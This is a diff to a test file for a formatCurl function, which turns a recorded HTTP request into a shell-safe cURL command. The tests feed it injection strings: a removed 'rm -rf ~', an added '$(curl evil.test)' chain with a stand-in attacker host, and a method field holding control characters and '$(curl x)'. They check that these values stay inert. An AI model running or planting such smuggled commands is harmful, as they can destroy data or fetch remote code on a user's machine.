@@ -105,20 +105,25 @@ describe('a hit as a cURL command', () => {
     expect(parts.input).toContain('name="cd[a]"\r\n\r\no\'neil\r\n');
   });
 
-  it('says what is missing, in a comment that cannot end early', () => {
+  it('says what is missing in quotes, and not in a comment: zsh runs a pasted one', () => {
     const command = formatCurl(
       makeHit(1, {
         method: 'POST',
-        body: { kind: 'unreadable', reason: 'a Blob\nrm -rf ~' },
+        body: { kind: 'unreadable', reason: "a 'Blob'\n$(curl evil.test); curl b | curl c" },
       }),
     );
     expect(command.split('\n')[0]).toBe(
-      '# The browser did not show the body, so it is missing: a Blob rm -rf ~',
+      ": 'The browser did not show the body, so it is missing: a '\\''Blob'\\'' $(curl evil.test); curl b | curl c'",
     );
-    expect(run([command])[0]?.args.slice(2)).toEqual(['-X', 'POST']);
+    expect(run([command]).map(({ args }) => args.slice(2))).toEqual([['-X', 'POST']]);
     expect(
       formatCurl(makeHit(1, { method: 'POST', body: { kind: 'text', text: 'a', cut: true } })),
-    ).toMatch(/^# Only the beginning/);
+    ).toMatch(/^: 'Only the beginning/);
+  });
+
+  it('a method of a file is a word, and nothing that a shell or a terminal would act on', () => {
+    const command = formatCurl(makeHit(1, { method: 'PU\u0000T\u001b;$(curl x)\n' }));
+    expect(run([command]).map(({ args }) => args.slice(2))).toEqual([['-X', 'PUT$CURLX']]);
   });
 
   it('gives any text to curl unchanged (300 random bodies and addresses)', () => {
